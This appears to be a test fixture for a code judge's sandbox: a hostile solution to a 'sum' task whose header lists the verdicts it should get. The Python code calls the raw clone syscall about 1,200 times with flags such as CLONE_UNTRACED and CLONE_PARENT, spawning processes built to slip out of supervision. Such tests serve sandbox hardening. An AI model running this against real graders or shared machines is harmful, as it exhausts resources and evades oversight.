#: tries: starts processes by clone, with every flag that hides one
#: task: sum
#: verdict: runtime_error time_limit wrong_answer memory_limit
#: harms: starts thousands of processes

import ctypes
import os

UNTRACED, PARENT, PARENT_SETTID, IO, SIGCHLD = 0x00800000, 0x8000, 0x00100000, 0x80000000, 17
libc = ctypes.CDLL(None)
for flags in (0, SIGCHLD, PARENT | SIGCHLD, UNTRACED | SIGCHLD, IO | SIGCHLD, UNTRACED | PARENT):
    for _ in range(200):
        if libc.syscall(ctypes.c_long(56), ctypes.c_long(flags), 0, 0, 0, 0) == 0:
            libc.usleep(200_000)
            os._exit(0)
